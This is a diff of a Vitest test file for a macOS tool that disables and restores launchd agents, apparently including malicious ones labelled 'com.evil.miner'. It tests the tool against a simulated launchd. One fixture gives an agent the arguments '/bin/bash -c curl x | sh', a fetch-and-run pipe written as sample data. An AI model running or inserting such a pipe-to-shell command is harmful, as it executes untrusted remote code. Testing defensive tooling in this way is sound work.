@@ -1,181 +1,223 @@
-// The executor against a temporary tree, with launchctl and systemctl shims that record their argv.
-import { chmodSync, existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
+// The executor against a model of launchd that answers as a real Mac does (test/support/launchctl-model.mjs:
+// 36 for a slow exit, 5 for seconds after a bootout, 119 for a disabled service, 113 from print), and
+// against the files on disk: every test checks launchd's final state in the model and the file's
+// bytes, mode and time.
+import { existsSync, mkdirSync, readFileSync, statSync, utimesSync, writeFileSync, chmodSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { ActionService } from '../../main/actions/action-service';
-import { localRunner } from '../../main/actions/runners';
 import type { ItemResult, LaunchItem } from '../../main/engine/model';
-import { PLIST, setup } from '../support/executor-setup';
-import { makeShims } from '../support/shims';
+import { agentItem, PLIST, plistFor, setup } from '../support/executor-setup';
+import { launchdModel } from '../support/launchd-model';
 
-describe('the executor', () => {
-  it('disables: runs the approved steps in order, then the plist is in quarantine byte for byte', async () => {
-    const { plistPath, service, result, calls } = setup();
-    const outcome = service.plan(result);
-    expect(outcome.ok).toBe(true);
-    const done = await service.approvePlan(outcome.planId as string);
-    expect(done.ok).toBe(true);
-    expect(calls()).toEqual(['launchctl bootout gui/501/com.evil.miner', 'launchctl disable gui/501/com.evil.miner']);
+const mutating = (calls: { argv: string[] }[]) =>
+  calls.filter((c) => !['print', 'print-disabled'].includes(c.argv[0] as string)).map((c) => c.argv.join(' '));
+
+async function disable(context: ReturnType<typeof setup>, result = context.result) {
+  const plan = context.service.plan(result);
+  expect(plan.ok, plan.ok ? '' : plan.refusal).toBe(true);
+  return context.service.approvePlan(plan.planId as string);
+}
+
+describe('disable and undo against a model of launchd', () => {
+  it('a user agent: unloaded, disabled and quarantined; undo puts back bytes, mode and time, and launchd loads it', async () => {
+    const context = setup();
+    const { plistPath, service, model } = context;
+    utimesSync(plistPath, new Date('2025-01-02T03:04:05Z'), new Date('2025-01-02T03:04:05Z'));
+    const done = await disable(context);
+    expect(done.ok, done.message).toBe(true);
+    expect(model.read().domains['gui/501']).toEqual({});
+    expect(model.read().disabled['gui/501']).toEqual({ 'com.evil.miner': true });
     expect(existsSync(plistPath)).toBe(false);
-    const backup = done.record.backup!;
-    expect(readFileSync(backup.backupPath)).toEqual(PLIST);
-    expect(backup).toMatchObject({ originalPath: plistPath, mode: 0o640, size: PLIST.length });
-    expect(service.actions()[0]).toMatchObject({
-      status: 'done',
-      steps: [{ status: 'done' }, { status: 'done' }, { status: 'done' }],
-    });
-    // A plan runs once.
-    await expect(service.approvePlan(outcome.planId as string)).rejects.toThrow(/no longer waiting/);
-  });
+    expect(readFileSync(done.record.backup!.backupPath)).toEqual(PLIST);
+    expect(mutating(model.read().calls)).toEqual(['bootout gui/501/com.evil.miner', 'disable gui/501/com.evil.miner']);
+    expect(done.record.steps.find((s) => s.kind === 'bootout')?.output).toContain('confirmed: not loaded');
 
-  it('undo restores the file byte for byte with its mode, then enables before bootstrapping', async () => {
-    const { plistPath, service, result, calls } = setup();
-    const outcome = service.plan(result);
-    await service.approvePlan(outcome.planId as string);
     const undone = await service.undo('last');
-    expect(undone.ok).toBe(true);
+    expect(undone.ok, undone.message).toBe(true);
+    expect(undone.message).toMatch(/loaded again \(launchd confirms it\)/);
     expect(readFileSync(plistPath)).toEqual(PLIST);
     expect(statSync(plistPath).mode & 0o777).toBe(0o640);
-    expect(calls().slice(2)).toEqual([
-      'launchctl enable gui/501/com.evil.miner',
-      `launchctl bootstrap gui/501 ${plistPath}`,
+    expect(statSync(plistPath).mtime.toISOString()).toBe('2025-01-02T03:04:05.000Z');
+    expect(model.read().domains['gui/501']?.['com.evil.miner']?.path).toBe(plistPath);
+    expect(model.read().disabled['gui/501']).toEqual({ 'com.evil.miner': false });
+    // enable before bootstrap: launchd refuses to bootstrap a disabled service (119).
+    expect(mutating(model.read().calls).slice(2)).toEqual([
+      'enable gui/501/com.evil.miner',
+      `bootstrap gui/501 ${plistPath}`,
     ]);
-    expect(service.actions()[0]?.status).toBe('undone');
-    await expect(service.undo('last')).rejects.toThrow(/no disabled item/);
   });
 
-  it('treats "Boot-out failed: 3: No such process" as a step already done', async () => {
-    const { service, result, plistPath } = setup({
-      launchctl: { script: `case "$1" in bootout) echo 'Boot-out failed: 3: No such process' >&2; exit 3 ;; esac` },
-    });
-    const done = await service.approvePlan(service.plan(result).planId as string);
-    expect(done.ok).toBe(true);
-    expect(done.record.steps[0]).toMatchObject({
-      kind: 'bootout',
-      status: 'done',
-      output: expect.stringContaining('already unloaded (Boot-out failed: 3: No such process)'),
-    });
-    expect(existsSync(plistPath)).toBe(false);
+  it('a service slow to exit (36): the executor waits until launchd confirms it is gone', async () => {
+    const context = setup({ slowExitMs: 1500 });
+    const started = Date.now();
+    const done = await disable(context);
+    expect(done.ok, done.message).toBe(true);
+    expect(Date.now() - started).toBeGreaterThanOrEqual(1400);
+    expect(done.record.steps.find((s) => s.kind === 'bootout')?.output).toMatch(
+      /36: Operation now in progress[\s\S]*confirmed: not loaded/,
+    );
+    expect(context.model.read().domains['gui/501']).toEqual({});
   });
 
-  it("rolls back and reports launchctl's own words when a step fails; the plist stays", async () => {
-    const { plistPath, service, result } = setup({
-      launchctl: {
-        stderr: 'Boot-out failed: 150: Operation not permitted while System Integrity Protection is engaged\n',
-        exitCode: 150,
-      },
-    });
-    const plan = service.plan(result);
-    const done = await service.approvePlan(plan.planId as string);
-    expect(done.ok).toBe(false);
-    expect(done.message).toContain('Operation not permitted while System Integrity Protection is engaged');
-    expect(readFileSync(plistPath)).toEqual(PLIST);
-    expect(service.actions()[0]?.status).toBe('rolled-back');
+  it('a bootstrap that fails with 5 for three seconds after the bootout: undo retries and reports success only once loaded', async () => {
+    const context = setup({ settleMs: 3000 });
+    expect((await disable(context)).ok).toBe(true);
+    const started = Date.now();
+    const undone = await context.service.undo('last');
+    expect(undone.ok, undone.message).toBe(true);
+    const bootstraps = context.model.read().calls.filter((c) => c.argv[0] === 'bootstrap');
+    expect(bootstraps.length).toBeGreaterThan(1);
+    expect(Date.now() - started).toBeLessThan(15_000);
+    expect(context.model.read().domains['gui/501']?.['com.evil.miner']).toBeDefined();
+  }, 30_000);
+
+  it('undo of an item already loaded again by hand: nothing is bootstrapped twice, and undo says it is loaded', async () => {
+    const context = setup();
+    const done = await disable(context);
+    // The user put the plist back and loaded it themselves.
+    writeFileSync(context.plistPath, PLIST);
+    chmodSync(context.plistPath, 0o640);
+    context.model.update((s) => (s.disabled['gui/501'] = { 'com.evil.miner': false }));
+    context.model.load('gui/501', 'com.evil.miner', context.plistPath);
+    const undone = await context.service.undo(done.record.id);
+    expect(undone.ok, undone.message).toBe(true);
+    expect(context.model.read().calls.filter((c) => c.argv[0] === 'bootstrap')).toEqual([]);
+    expect(undone.record?.undoSteps?.find((s) => s.kind === 'bootstrap')?.output).toBe('already loaded');
   });
 
-  it('refuses to undo over a different file that appeared at the same path', async () => {
-    const { plistPath, service, result } = setup();
-    await service.approvePlan(service.plan(result).planId as string);
-    writeFileSync(plistPath, 'reinstalled by the malware');
-    const undone = await service.undo('last');
+  it('undo says exactly what is left when launchd will not load the item within 15 s', async () => {
+    // launchd keeps answering 5 (headroomlabs-ai/headroom#1289 measured ~5 s; here it never stops).
+    const context = setup({ settleMs: 120_000 });
+    const done = await disable(context);
+    const undone = await context.service.undo(done.record.id);
     expect(undone.ok).toBe(false);
-    expect(undone.message).toContain('a different file is already at');
-    expect(readFileSync(plistPath, 'utf8')).toBe('reinstalled by the malware');
-  });
-});
+    expect(undone.message).toMatch(/Bootstrap failed: 5: Input\/output error/);
+    expect(undone.message).toContain(`What is left to do: launchctl bootstrap gui/501 ${context.plistPath}.`);
+    expect(undone.message).toContain(`The file at ${context.plistPath} is in place.`);
+    expect(readFileSync(context.plistPath)).toEqual(PLIST);
+    expect(context.model.read().domains['gui/501']).toEqual({});
+    expect(context.service.actions()[0]?.status).toBe('done');
+  }, 40_000);
 
-describe('the executor, harder paths', () => {
-  it('rolls back the steps that had finished when a later one fails: bootout is undone by bootstrap', async () => {
-    const { plistPath, service, result, calls } = setup({
-      launchctl: {
-        script: `case "$1" in disable) echo 'Could not disable: 1: Operation not permitted' >&2; exit 1 ;; esac`,
-      },
-    });
-    const done = await service.approvePlan(service.plan(result).planId as string);
-    expect(done.ok).toBe(false);
-    expect(done.message).toContain('Could not disable: 1: Operation not permitted');
-    expect(calls()).toEqual([
-      'launchctl bootout gui/501/com.evil.miner',
-      'launchctl disable gui/501/com.evil.miner',
-      `launchctl bootstrap gui/501 ${plistPath}`,
-    ]);
-    expect(done.record.steps.map((s) => s.status)).toEqual(['rolled-back', 'failed', 'pending']);
-    expect(readFileSync(plistPath)).toEqual(PLIST);
-  });
-
-  it('runs root-owned file steps through the administrator runner, restoring through a temporary file and one rename', async () => {
-    const { root } = setup();
-    const daemons = join(root, 'Library/LaunchDaemons');
+  it('a root daemon: one administrator prompt for the disable and one for the undo', async () => {
+    const context = setup({ loaded: false });
+    const daemons = join(context.root, 'Library/LaunchDaemons');
     mkdirSync(daemons, { recursive: true });
     const plistPath = join(daemons, 'com.evil.d.plist');
-    writeFileSync(plistPath, PLIST);
+    writeFileSync(plistPath, plistFor('com.evil.d'));
     chmodSync(plistPath, 0o644);
-    const admin: string[] = [];
-    const local = localRunner({ ...process.env, PATH: `${makeShims({ launchctl: {} }).dir}:/usr/bin:/bin` });
-    const runner = {
-      run: async (argv: string[], options: { admin: boolean; reason: string }) => {
-        if (options.admin) admin.push(argv.join(' '));
-        // As root here, the "administrator" commands simply run.
-        return argv[0] === 'launchctl'
-          ? local.run(argv, options)
-          : local.run(
-              argv.map((a) => (a === '/usr/sbin/chown' ? 'chown' : a)),
-              options,
-            );
-      },
-    };
-    const service = new ActionService({
-      stateDir: join(root, 'state2'),
-      runner,
+    context.model.load('system', 'com.evil.d', plistPath);
+    const item = agentItem(plistPath, 'com.evil.d', { kind: 'LaunchDaemon', scope: 'system' });
+    const plan = context.service.plan({ item, processes: [] } as unknown as ItemResult);
+    expect(plan.ok && plan.plan).toMatchObject({ needsAdmin: true, adminPrompts: 1 });
+    const done = await context.service.approvePlan(plan.planId as string);
+    expect(done.ok, done.message).toBe(true);
+    expect(context.runner.prompts).toBe(1);
+    expect(existsSync(plistPath)).toBe(false);
+    expect(context.model.read().domains.system).toEqual({});
+    expect(context.model.read().disabled.system).toEqual({ 'com.evil.d': true });
+    // Without the administrator, launchd refuses changes to the system domain.
+    expect(
+      context.model
+        .read()
+        .calls.filter((c) => c.argv[0] !== 'print' && c.argv[0] !== 'print-disabled')
+        .every((c) => c.root),
+    ).toBe(true);
+
+    const undone = await context.service.undo('last');
+    expect(undone.ok, undone.message).toBe(true);
+    expect(context.runner.prompts).toBe(2);
+    expect(readFileSync(plistPath)).toEqual(plistFor('com.evil.d'));
+    expect(statSync(plistPath).mode & 0o777).toBe(0o644);
+    expect(existsSync(join(daemons, '.launchwatch-restore-com.evil.d.plist.tmp'))).toBe(false);
+    expect(context.model.read().domains.system?.['com.evil.d']).toBeDefined();
+  });
+
+  it('an interpreter-run agent (/bin/bash -c) can be disabled, although bash is signed by Apple', async () => {
+    const context = setup();
+    const item = agentItem(context.plistPath, 'com.evil.miner', {
+      program: '/bin/bash',
+      arguments: ['/bin/bash', '-c', 'curl x | sh'],
+    });
+    const signing = { path: '/bin/bash', status: 'apple', authorities: ['Software Signing'] };
+    const done = await disable(context, { item, processes: [], signing } as unknown as ItemResult);
+    expect(done.ok, done.message).toBe(true);
+    expect(context.model.read().domains['gui/501']).toEqual({});
+  });
+
+  it('an app-bundle agent: booted out and disabled, no file inside the app changed; undo enables and bootstraps it', async () => {
+    const context = setup({ loaded: false });
+    const bundleAgents = join(context.root, 'Applications/Tool.app/Contents/Library/LaunchAgents');
+    mkdirSync(bundleAgents, { recursive: true });
+    const plistPath = join(bundleAgents, 'com.tool.helper.plist');
+    writeFileSync(plistPath, plistFor('com.tool.helper'));
+    context.model.load('gui/501', 'com.tool.helper', plistPath);
+    const item = agentItem(plistPath, 'com.tool.helper', { scope: 'app-bundle' });
+    const plan = context.service.plan({ item, processes: [] } as unknown as ItemResult);
+    expect(plan.ok && plan.plan.keepsFile).toBe(true);
+    expect(plan.ok && plan.plan.steps.map((s) => s.kind)).toEqual(['bootout', 'disable', 'note']);
+    expect(plan.ok && plan.plan.steps.at(-1)?.description).toMatch(
+      /No file inside the app is changed[\s\S]*Login Items & Extensions/,
+    );
+    const done = await context.service.approvePlan(plan.planId as string);
+    expect(done.ok, done.message).toBe(true);
+    expect(readFileSync(plistPath)).toEqual(plistFor('com.tool.helper'));
+    expect(done.record.backup).toBeUndefined();
+    expect(context.model.read().disabled['gui/501']).toEqual({ 'com.tool.helper': true });
+    const undone = await context.service.undo('last');
+    expect(undone.ok, undone.message).toBe(true);
+    expect(context.model.read().domains['gui/501']?.['com.tool.helper']).toBeDefined();
+    expect(context.model.read().disabled['gui/501']).toEqual({ 'com.tool.helper': false });
+  });
+
+  it('treats "Boot-out failed: 3: No such process" as done once launchd confirms the service is not loaded', async () => {
+    const context = setup({ loaded: false });
+    const done = await disable(context);
+    expect(done.ok, done.message).toBe(true);
+    expect(done.record.steps.find((s) => s.kind === 'bootout')?.output).toMatch(/3: No such process/);
+  });
+
+  it('rolls back when launchd never lets go: the service is loaded and enabled again, the plist stays', async () => {
+    const context = setup({ slowExitMs: 60_000 });
+    const short = new ActionService({
+      stateDir: join(context.root, 'state-short'),
+      runner: context.runner,
       processes: { isSame: async () => false, signal: async () => undefined },
       uid: 501,
       isRoot: false,
+      confirmTimeoutMs: 800,
     });
-    const item = {
-      id: plistPath,
-      label: 'com.evil.d',
-      plistPath,
-      kind: 'LaunchDaemon',
-      scope: 'system',
-      program: '/x',
-      arguments: ['/x'],
-      problems: [],
-    } as unknown as LaunchItem;
-    const outcome = service.plan({ item, processes: [] } as unknown as ItemResult);
-    expect(outcome.ok && outcome.plan.needsAdmin).toBe(true);
-    const done = await service.approvePlan(outcome.planId as string);
-    expect(done.ok).toBe(true);
-    expect(admin).toEqual([
-      'launchctl bootout system/com.evil.d',
-      'launchctl disable system/com.evil.d',
-      `/bin/rm -f ${plistPath}`,
-    ]);
-    expect(existsSync(plistPath)).toBe(false);
-    admin.length = 0;
-    expect((await service.undo('last')).ok).toBe(true);
-    const temp = join(daemons, '.launchwatch-restore-com.evil.d.plist.tmp');
-    expect(admin.slice(0, 4)).toEqual([
-      `/bin/cp ${done.record.backup!.backupPath} ${temp}`,
-      `/usr/sbin/chown 0:0 ${temp}`,
-      `/bin/chmod 644 ${temp}`,
-      `/bin/mv -f ${temp} ${plistPath}`,
-    ]);
-    expect(readFileSync(plistPath)).toEqual(PLIST);
-    expect(existsSync(temp)).toBe(false);
+    const plan = short.plan(context.result);
+    const done = await short.approvePlan(plan.planId as string);
+    expect(done.ok).toBe(false);
+    expect(done.message).toMatch(/still has gui\/501\/com.evil.miner loaded/);
+    expect(done.record.status).toBe('rolled-back');
+    expect(readFileSync(context.plistPath)).toEqual(PLIST);
+    expect(context.model.read().disabled['gui/501']).toEqual({ 'com.evil.miner': false });
+  });
+
+  it('refuses to undo over a different file that appeared at the same path', async () => {
+    const context = setup();
+    await disable(context);
+    writeFileSync(context.plistPath, 'something else');
+    const undone = await context.service.undo('last');
+    expect(undone.ok).toBe(false);
+    expect(undone.message).toMatch(/a different file is already at/);
+    expect(readFileSync(context.plistPath, 'utf8')).toBe('something else');
+  });
+
+  it('both forms of print-disabled confirm the disable', async () => {
+    const context = setup({ model: launchdModel({ printDisabledForm: 'words' }) });
+    expect((await disable(context)).ok).toBe(true);
   });
 
   it('ends what is left of the process tree, and only the processes it planned for', async () => {
-    const { result } = setup();
     const { spawn } = await import('node:child_process');
     const child = spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], { stdio: 'ignore' });
     const exited = new Promise<string | null>((resolve) => child.on('exit', (_c, signal) => resolve(signal)));
     const signals: [number, string][] = [];
-    const live = new ActionService({
-      stateDir: join(setup().root, 'state3'),
-      runner: localRunner({ ...process.env, PATH: `${makeShims({ launchctl: {} }).dir}:/usr/bin:/bin` }),
-      uid: 501,
-      isRoot: false,
-      stopGraceMs: 2000,
+    const context = setup({
       processes: {
         isSame: async (pid) => pid === child.pid && child.exitCode === null && child.signalCode === null,
         signal: async (pid, signal) => {
@@ -184,13 +226,63 @@ describe('the executor, harder paths', () => {
         },
       },
     });
-    const plan = live.plan({
-      ...result,
+    const result = {
+      ...context.result,
       processes: [{ pid: child.pid!, ppid: 1, args: 'node', startedAt: Date.now() }],
-    } as unknown as ItemResult);
-    expect(plan.ok && plan.plan.steps.map((s) => s.kind)).toContain('stop-processes');
-    expect((await live.approvePlan(plan.planId as string)).ok).toBe(true);
+    };
+    const done = await disable(context, result as unknown as ItemResult);
+    expect(done.ok, done.message).toBe(true);
     expect(await exited).toBe('SIGTERM');
     expect(signals).toEqual([[child.pid, 'SIGTERM']]);
+  });
+
+  it('the Apple rule reads the property list: under /System is refused, an Apple-signed tool is not enough', () => {
+    const context = setup();
+    const refuse = (item: Partial<LaunchItem>, status = 'apple') =>
+      context.service.plan({
+        item: agentItem('/x.plist', 'com.x', item),
+        processes: [],
+        signing: { status, authorities: [] },
+      } as unknown as ItemResult);
+    expect(refuse({ plistPath: '/System/Library/LaunchAgents/com.apple.x.plist', label: 'com.apple.x' })).toMatchObject(
+      { ok: false, refusal: expect.stringMatching(/System Integrity Protection/) },
+    );
+    expect(
+      refuse({
+        plistPath: '/Library/Apple/System/Library/LaunchDaemons/com.apple.y.plist',
+        label: 'com.apple.y',
+        program: '/usr/libexec/y',
+      }),
+    ).toMatchObject({ ok: false });
+    // An Apple label in the user's folder, or an Apple tool run from Apple's folder, is not Apple's own.
+    expect(
+      refuse({
+        plistPath: '/Users/a/Library/LaunchAgents/com.apple.z.plist',
+        label: 'com.apple.z',
+        program: '/usr/libexec/z',
+      }).ok,
+    ).toBe(true);
+    expect(
+      refuse({
+        plistPath: '/Library/Apple/System/Library/LaunchDaemons/com.apple.w.plist',
+        label: 'com.apple.w',
+        program: '/usr/bin/python3',
+      }).ok,
+    ).toBe(true);
+    for (const program of [
+      '/bin/sh',
+      '/bin/zsh',
+      '/usr/bin/osascript',
+      '/usr/bin/ruby',
+      '/usr/bin/perl',
+      '/usr/bin/caffeinate',
+      '/usr/bin/nice',
+      '/usr/bin/open',
+    ]) {
+      expect(
+        refuse({ plistPath: '/Library/LaunchAgents/com.miner.plist', label: 'com.miner', program }).ok,
+        program,
+      ).toBe(true);
+    }
   });
 });
